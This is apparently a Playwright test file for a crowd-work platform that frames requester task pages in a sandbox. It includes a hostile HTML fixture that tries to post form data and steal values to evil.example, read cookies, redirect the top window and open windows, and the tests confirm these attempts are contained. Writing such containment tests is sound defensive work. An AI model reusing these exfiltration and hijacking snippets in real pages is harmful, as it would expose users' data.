"""Requesters' pages done by a person in a real browser; hostile ones are contained, and what they wanted is written down."""

from __future__ import annotations

import csv
import json
import re
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import unquote
from xml.sax.saxutils import escape

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect

from accessibility import audit
from mturk_bridge import axe_words, batches
from mturk_bridge.operations import OPERATIONS, Call
from mturk_bridge.store import blocked, hits
from mturk_bridge.store.requesters import Requester
from tests import browsing
from tests.builders import rows
from tests.conftest import Clock, lab
from tests.mturk.endpoint import EXTERNAL, NAMESPACES, TYPE, with_requester
from tests.web.serving import serving
from workbench import certificates, export, people
from workbench import tables as t
from workbench.context import Context
from workbench.domain import Role
from workbench.store import lab as labs
from workbench.store import projects as store
from workbench.store import settling
from workbench.web.app import create_app

PATIENCE_MS = 20_000
HOSTILE = """<!doctype html><html><head><title>Mine</title></head><body>
<form name="mturk_form" action="https://evil.example/take" method="post" target="_top">
<label>Tag <input name="tag"></label></form>
<form id="thief" action="https://evil.example/steal" target="_top"><input name="x" value="1"></form>
<img src="https://evil.example/pixel.gif" alt=""><iframe src="https://evil.example/"></iframe>
<script>
  const seen = [];
  const attempt = (name, work) => {
    try { const found = work(); seen.push(`${name}: ${found}`); } catch { seen.push(`${name}: no`); }
  };
  attempt("top", () => { top.location = "https://evil.example/"; return "asked"; });
  attempt("parent", () => parent.document.title);
  attempt("cookie", () => document.cookie || "none");
  attempt("window", () => String(window.open("https://evil.example/")));
  attempt("storage", () => { localStorage.setItem("a", "1"); return localStorage.getItem("a"); });
  HTMLFormElement.prototype.submit.call(document.getElementById("thief"));
  fetch("https://evil.example/data").catch(() => {});
  const told = document.createElement("input");
  Object.assign(told, { type: "hidden", name: "seen", value: seen.join("; ") });
  document.forms[0].append(told);
</script></body></html>"""


THEIR_PAGE = b"""<!doctype html><html lang="en"><title>Task</title>
<form method="post"><label>Answer <input name="answer"></label>
<input type="hidden" name="assignmentId"><button>Done</button></form>
<script>const told = new URLSearchParams(location.search);
document.forms[0].action = told.get("turkSubmitTo") + "/mturk/externalSubmit";
document.forms[0].elements.assignmentId.value = told.get("assignmentId");
try { top.location = "https://evil.example/"; } catch { document.title = "Alone"; }</script></html>"""


@dataclass
class Stage:
    """A lab with a requester, a worker who is signed in, and a browser."""

    ctx: Context
    requester: Requester
    page: Page
    url: str
    asked: list[str]  # addresses outside this lab that the browser asked for

    def ask(self, operation: str, **given: Any) -> dict[str, Any]:
        """What a requester's program asks."""
        return OPERATIONS[operation](Call(self.ctx, self.requester, operation, given, self.ctx.now()))

    def publish(self, html: str) -> dict[str, Any]:
        """A HIT with this page, which the worker then opens."""
        content = f"<HTMLContent>{escape(html)}</HTMLContent><FrameHeight>0</FrameHeight>"
        return self.offer(f'<HTMLQuestion xmlns="{NAMESPACES}/2011-11-11/HTMLQuestion.xsd">{content}</HTMLQuestion>')

    def offer(self, question: str) -> dict[str, Any]:
        """A HIT with this question, which the worker then opens."""
        hit = self.ask("CreateHIT", **{**TYPE, "Reward": "5.00"}, LifetimeInSeconds=86_400, Question=question)["HIT"]
        self.page.goto(f"{self.url}/work/next")
        expect(self.page.locator("framed-page iframe")).to_be_visible(timeout=PATIENCE_MS)
        return dict(hit)

    @property
    def frame(self) -> FrameLocator:
        """The requester's page."""
        return self.page.frame_locator("framed-page iframe")

    def send(self) -> None:
        """Press the workbench's own button, and wait until it has gone."""
        here = self.page.url.partition("?")[0]
        self.page.get_by_role("button", name="Send", exact=True).click()
        expect(self.page).not_to_have_url(re.compile(re.escape(here)), timeout=PATIENCE_MS)

    def answer_to(self, hit: dict[str, Any]) -> dict[str, str]:
        """What the requester reads, by name."""
        found = self.ask("ListAssignmentsForHIT", HITId=hit["HITId"])["Assignments"]
        assert len(found) == 1
        pairs = re.findall(
            r"<QuestionIdentifier>(.*?)</QuestionIdentifier><FreeText>(.*?)</FreeText>", found[0]["Answer"], re.DOTALL
        )
        return dict(pairs)


@pytest.fixture(scope="module")
def stage(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """One lab for all these tests: each asks one HIT of the same type, and does it or gives it back."""
    ctx = lab(tmp_path_factory.mktemp("frames") / "lab", Clock())
    ctx.db.write(lambda connection: labs.set_up(connection, name="Proeflab", time_zone="Europe/Amsterdam", now=ctx.now()))
    requester, _ = with_requester(ctx, credit=1_000_000)
    worker = people.enrol(ctx, "Wim", [Role.WORKER], locale="en")
    with serving(create_app(ctx)) as url:
        context = browser.new_context(viewport={"width": 1280, "height": 900}, ignore_https_errors=True)
        page = context.new_page()
        asked: list[str] = []
        context.route(re.compile(r"https://(?!localhost)"), lambda route: (asked.append(route.request.url), route.abort()))
        page.goto(url + worker.link_path)
        expect(page.locator("h1")).to_be_visible()
        yield Stage(ctx, requester, page, url, asked)
        page.goto("about:blank")
        context.close()
    ctx.close()


class TheirServer(BaseHTTPRequestHandler):
    """A requester's own server with one page."""

    def do_GET(self) -> None:
        """The page, whatever is asked."""
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(THEIR_PAGE)

    def log_message(self, *_: object) -> None:
        """Nothing."""


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The https address of a requester's own server."""
    certificate, key = certificates.for_host(tmp_path_factory.mktemp("tls"), "127.0.0.1")
    server = ThreadingHTTPServer(("127.0.0.1", 0), TheirServer)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificate, key)
    server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"https://localhost:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_a_page_is_filled_in_and_sent_with_the_button_outside(stage: Stage) -> None:
    """Pay, time and requester stand first; what the form holds arrives by name, as MTurk's own XML."""
    hit = stage.publish(
        """<p>Which boat is this?</p><label>Tag <input name="tag" required></label>
        <label><input type="checkbox" name="colour" value="red"> red</label>
        <label><input type="checkbox" name="colour" value="white"> white</label>"""
    )
    first = stage.page.locator("main h1 + section")
    expect(first.get_by_role("link", name="Zender Noord")).to_be_visible()
    expect(first).to_contain_text(re.compile(r"This company is new here\.|Answers sent: \d+\."))
    expect(stage.page.locator("#steps li")).to_have_text(
        [re.compile("This takes about"), re.compile("pays the lab .* an hour"), "Read one line and answer."]
    )
    assert [str(each) for each in audit.audit_page(stage.page)] == []
    stage.page.get_by_role("button", name="Send", exact=True).click()
    expect(stage.page.get_by_role("alert").filter(has_text="not complete yet")).to_be_visible()
    stage.frame.get_by_label("Tag").fill("zeilboot é")
    stage.frame.get_by_label("red").check()
    stage.frame.get_by_label("white").check()
    stage.send()
    assert stage.answer_to(hit) == {"tag": "zeilboot é", "colour": "red|white"}


def test_a_page_that_keeps_its_form_to_itself_sends_it_as_it_did_at_mturk(stage: Stage) -> None:
    """Its listener stops the event before the lab hears it: the form goes to externalSubmit by itself; nothing is lost."""
    hit = stage.publish(
        """<form id="mturk_form" method="post"><label>Tag <input name="tag"></label><button>Done</button></form>
        <script>document.forms[0].addEventListener("submit", (event) => event.stopPropagation());</script>"""
    )
    stage.frame.get_by_label("Tag").fill("boat")
    here = stage.page.url
    stage.frame.get_by_role("button", name="Done").click()
    expect(stage.page).not_to_have_url(here, timeout=PATIENCE_MS)
    assert stage.answer_to(hit) == {"tag": "boat"}


def test_a_draft_comes_back_and_the_page_may_be_given_back(stage: Stage) -> None:
    """What was begun is there after a reload; the way out is the same as everywhere, and costs nothing."""
    hit = stage.publish('<label>Tag <input name="tag"></label><textarea name="why" aria-label="Why"></textarea>')
    stage.frame.get_by_label("Tag").fill("half")
    expect(stage.page.locator(".task__saved")).to_have_text("Kept for you.", timeout=PATIENCE_MS)
    stage.page.reload()
    expect(stage.frame.get_by_label("Tag")).to_have_value("half", timeout=PATIENCE_MS)
    stage.page.get_by_text("Something is wrong", exact=True).click()
    stage.page.get_by_role("button", name="I do not understand the question").click()
    expect(stage.page.locator("framed-page")).to_have_count(0)
    assert stage.ask("ListAssignmentsForHIT", HITId=hit["HITId"])["Assignments"] == []


def test_a_page_of_its_own_time_works_with_jquery_parameters_and_alerts(stage: Stage) -> None:
    """Libraries come from this lab; assignmentId is in the address; alert() is read out; its own check may say no."""
    hit = stage.publish(
        """<html><head><script src="https://code.jquery.com/jquery-1.11.3.min.js"></script>
        <link rel="stylesheet" href="https://maxcdn.bootstrapcdn.com/bootstrap/3.3.4/css/bootstrap.min.css">
        <script src="https://s3.amazonaws.com/mturk-public/externalHIT_v1.js"></script></head>
        <body><form id="mturk_form" method="post" action="https://www.mturk.com/mturk/externalSubmit">
        <input type="hidden" name="assignmentId" id="assignmentId" value="">
        <input type="text" name="tag" id="tag" aria-label="Tag"><input type="hidden" name="got" id="got">
        <input type="submit" id="submitButton" value="Submit"></form>
        <script>turkSetAssignmentID();
        $(function () {
          const same = new URLSearchParams(location.search).get("assignmentId") === $("#assignmentId").val();
          $("#got").val(same && turkGetParam("workerId")[0]);
          $("#mturk_form").on("submit", function () { if (!$("#tag").val()) { alert("Write a tag."); return false; } });
        });</script></body></html>"""
    )
    stage.frame.get_by_role("button", name="Submit").click()
    expect(stage.page.get_by_role("alert").filter(has_text="The page says: Write a tag.")).to_be_visible()
    stage.frame.get_by_label("Tag").fill("boat")
    here = stage.page.url
    stage.frame.get_by_role("button", name="Submit").click()
    expect(stage.page).not_to_have_url(here, timeout=PATIENCE_MS)
    assert stage.answer_to(hit) == {"tag": "boat", "got": "A"}
    assert [url for url in stage.asked if "jquery" in url or "bootstrap" in url] == []


def test_a_hostile_page_reaches_nothing(stage: Stage) -> None:
    """No way to the top, the page around, its cookies, another window or another server; what it wanted is written down."""
    stage.asked.clear()
    hit = stage.publish(HOSTILE)
    here = stage.page.url
    stage.frame.get_by_label("Tag").fill("boat")
    assert (stage.page.url, len(stage.page.context.pages)) == (here, 1)
    stage.send()
    seen = stage.answer_to(hit)["seen"]
    assert "parent: no" in seen
    assert "cookie: none" in seen
    assert "window: null" in seen
    assert "storage: 1" in seen
    assert stage.asked == []  # nothing left this machine
    found = {each.host for each in stage.ctx.db.read(lambda c: blocked.of_project(c, _project(c, hit)))}
    assert "evil.example" in found


def test_a_script_that_never_ends_leaves_the_page_around_alone(stage: Stage) -> None:
    """The way out still works: the frame runs in a process of its own."""
    stage.publish("<p>Wait</p><script>document.addEventListener('submit', () => { for (;;) {} }, true);</script>")
    stage.page.get_by_role("button", name="Send", exact=True).click()
    expect(stage.page.get_by_role("status").filter(has_text="does not answer")).to_be_visible(timeout=PATIENCE_MS)
    stage.page.get_by_text("Something is wrong", exact=True).click()
    stage.page.get_by_role("button", name="I cannot see it well").click()
    expect(stage.page.locator("framed-page")).to_have_count(0, timeout=PATIENCE_MS)


def test_a_page_elsewhere_sends_by_itself_once(stage: Stage, elsewhere: str) -> None:
    """ExternalQuestion: parameters in its address, its own form to turkSubmitTo; the worker goes on, a repeat changes nothing."""
    hit = stage.offer(EXTERNAL.replace("https://zender.example/task?id=1", f"{elsewhere}/task?id=1&amp;set=2"))
    here = stage.page.url
    stage.page.get_by_role("button", name="Send", exact=True).click()
    expect(stage.page.get_by_role("status").filter(has_text="button on the page itself")).to_be_visible()
    stage.frame.get_by_label("Answer").fill("yes")
    shown = stage.page.frames[-1].url
    stage.frame.get_by_role("button", name="Done").click()
    expect(stage.page).not_to_have_url(here, timeout=PATIENCE_MS)
    assert stage.answer_to(hit) == {"answer": "yes"}
    assert "id=1&set=2&assignmentId=3" in shown
    to = re.search(r"turkSubmitTo=([^&]+)", shown)
    assert to
    again = stage.page.request.post(f"{unquote(to.group(1))}/mturk/externalSubmit", form={"answer": "no", "assignmentId": "x"})
    assert (again.status, "Your first answer is kept" in again.text()) == (409, True)
    assert stage.answer_to(hit) == {"answer": "yes"}


def test_an_answer_needs_its_own_token(stage: Stage) -> None:
    """An assignment's id alone, or with another's proof, opens no page and takes no answer."""
    stage.publish('<label>Tag <input name="tag"></label>')
    public_id = stage.page.url.partition("?")[0].rpartition("/")[2]
    for token in (public_id, f"{public_id}.{'0' * 40}", "x"):
        assert stage.page.request.get(f"{stage.url}/mturk/to/{token}").status == 404
        assert stage.page.request.post(f"{stage.url}/mturk/to/{token}/mturk/externalSubmit", form={"tag": "x"}).status == 404
    stage.frame.get_by_label("Tag").fill("mine")
    stage.send()


def _project(connection: Any, hit: dict[str, Any]) -> int:
    found = hits.hit_by(connection, hits.b.hit.c.hit_id == hit["HITId"])
    assert found
    return found.type.project_id


CROWD = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><p>${zin-nl}</p><crowd-input name="tag" label="Tag" required></crowd-input>
<crowd-checkbox name="colour" value="red">Red</crowd-checkbox><crowd-checkbox name="colour" value="white">White</crowd-checkbox>
<crowd-slider name="sure" min="0" max="10" label="How sure?"></crowd-slider>
<crowd-classifier name="kind" categories="['boat', 'plane']" header="What is it?"></crowd-classifier>
<script>window.read = "${zin-nl}";</script><p id="echo"></p>
<script>document.getElementById("echo").textContent = `${1 + 1}:` + read;</script></crowd-form>""".replace("'", "&quot;")


def test_a_batch_of_crowd_elements_is_done_and_its_answers_are_one_list(stage: Stage, tmp_path: Path) -> None:
    """Hyphens, letters beyond ASCII and scripts; 105 KB; the fields have labels; taskAnswers is what MTurk's scripts read."""
    value = 'Eén "zeilboot" & </script> \u2013 d\u2019r'
    table = tmp_path / "zinnen.csv"
    table.write_text('zin-nl\n"' + value.replace('"', '""') + '"\n', encoding="utf-8")
    template = CROWD + "<!-- " + "filling " * 13_200 + "-->"
    wanted = batches.Wanted(name="Crowd", requester="Zender Noord", language="nl")
    made = batches.import_batch(stage.ctx, template, table, wanted)
    assert len(template) > 105_000
    stage.page.goto(f"{stage.url}/work/next")
    expect(stage.frame.locator("crowd-form p").first).to_have_text(value, timeout=PATIENCE_MS)
    expect(stage.frame.locator("#echo")).to_have_text("2:" + value)
    stage.page.get_by_role("button", name="Send", exact=True).click()
    expect(stage.page.get_by_role("alert").filter(has_text="not complete yet")).to_be_visible()
    stage.frame.get_by_label("Tag").fill("boot")
    stage.frame.get_by_label("White").check()
    stage.frame.get_by_label("How sure?").fill("7")
    stage.frame.get_by_role("group", name="What is it?").get_by_label("boat").check()
    stage.send()
    out = tmp_path / "out.csv"
    export.export(stage.ctx, made.project, "turkle_csv", out)
    with out.open(encoding="utf-8", newline="") as file:
        found = next(csv.DictReader(file))
    told = {"tag": "boot", "colour": {"red": False, "white": True}, "sure": 7, "kind": {"label": "boat"}}
    assert (json.loads(found["Answer.taskAnswers"]), found["Input.zin-nl"]) == ([told], value)


def test_ten_thousand_rows_are_done_from_the_first_to_the_last(stage: Stage, tmp_path: Path) -> None:
    """The first and the last are done on the page; the results stand in the table's order."""
    table = tmp_path / "many.csv"
    table.write_text("n,name\n" + "".join(f"{number},Boat {number}\n" for number in range(10_000)), encoding="utf-8")
    wanted = batches.Wanted(name="Many", requester="Zender Noord", language="en")
    made = batches.import_batch(stage.ctx, '<p>${name}</p><label>Tag <input name="tag"></label>', table, wanted)
    assert (made.rows, made.problems) == (10_000, [])
    between = sorted(row.id for row in rows(stage.ctx, t.microtask))[-9_999:-1]
    stage.ctx.db.write(lambda connection: settling.close_places(connection, between, stage.ctx.now()))
    for name in ("Boat 0", "Boat 9999"):
        stage.page.goto(f"{stage.url}/work/next")
        expect(stage.frame.locator("p").first).to_have_text(name, timeout=PATIENCE_MS)
        stage.frame.get_by_label("Tag").fill(f"tag of {name}")
        stage.send()
    out = tmp_path / "out.csv"
    export.export(stage.ctx, made.project, "mturk_csv", out)
    with out.open(encoding="utf-8", newline="") as file:
        found = [(row["Input.n"], row["Answer.tag"]) for row in csv.DictReader(file)]
    assert found == [("0", "tag of Boat 0"), ("9999", "tag of Boat 9999")]


@pytest.mark.parametrize(
    ("locale", "button", "found", "impact"),
    [
        ("en", "Check this page with axe", "What axe finds in it:", "critical"),
        ("nl", "Controleer deze pagina met axe", "Wat axe erin vindt:", "zeer ernstig"),
    ],
)
def test_a_manager_has_axe_look_at_a_batchs_page(
    stage: Stage, tmp_path: Path, locale: str, button: str, found: str, impact: str
) -> None:
    """The button under the example: what axe finds in the frame stands beside it, in the manager's language."""
    table = tmp_path / "one.csv"
    table.write_text("name\nBoat\n", encoding="utf-8")
    wanted = batches.Wanted(name=f"Looked at {locale}", requester="Zender Noord", language="en")
    made = batches.import_batch(stage.ctx, "<p>${name}</p><input name=tag><img src='data:image/gif;base64,R0'>", table, wanted)
    stage.ctx.db.write(lambda connection: store.set_status(connection, made.project.id, "paused", stage.ctx.now()))
    manager = people.enrol(stage.ctx, "Mia", [Role.MANAGER], locale=locale)
    assert stage.page.context.browser
    context = stage.page.context.browser.new_context()
    page = context.new_page()
    page.goto(stage.url + manager.link_path)
    page.goto(f"{stage.url}/manager/mturk/batches/{made.project.public_id}")
    expect(page.frame_locator("framed-page iframe").locator("p")).to_have_text("Boat", timeout=PATIENCE_MS)
    page.get_by_role("button", name=button).click()
    told = page.locator("[data-check] [role=status]")
    expect(told).to_contain_text(found, timeout=PATIENCE_MS)
    expect(told).to_contain_text(f"(label, {impact}): 1")
    expect(told).to_contain_text(f"(image-alt, {impact}): 1")
    if locale == "nl":
        expect(told).to_contain_text("Een veld heeft een label nodig")
        source = resources.files("workbench_assets").joinpath("axe.js").read_text(encoding="utf-8")
        rules = page.evaluate(f"{source}; axe.getRules().map((rule) => rule.ruleId)")
        assert set(rules) - set(axe_words.DUTCH) == set()
    browsing.leave(context)


def test_a_preview_sends_nothing(stage: Stage) -> None:
    """Nobody's assignment: the page is told so, and the button says that it is a preview."""
    sha256 = stage.ctx.db.write(lambda c: hits.keep_page(c, PREVIEWED, stage.ctx.now()))
    page = stage.page.context.new_page()
    page.goto(f"{stage.url}/mturk/look/{sha256}?name=Boat")
    expect(page.locator("#told")).to_have_text("ASSIGNMENT_ID_NOT_AVAILABLE|Boat|none")
    page.goto("about:blank")
    page.close()


PREVIEWED = """<p id="told"></p><input name="tag"><script>
const id = turkGetParam("assignmentId", "ASSIGNMENT_ID_NOT_AVAILABLE");
document.getElementById("told").textContent = [id, "${name}", turkGetParam("workerId", "none")].join("|");</script>"""
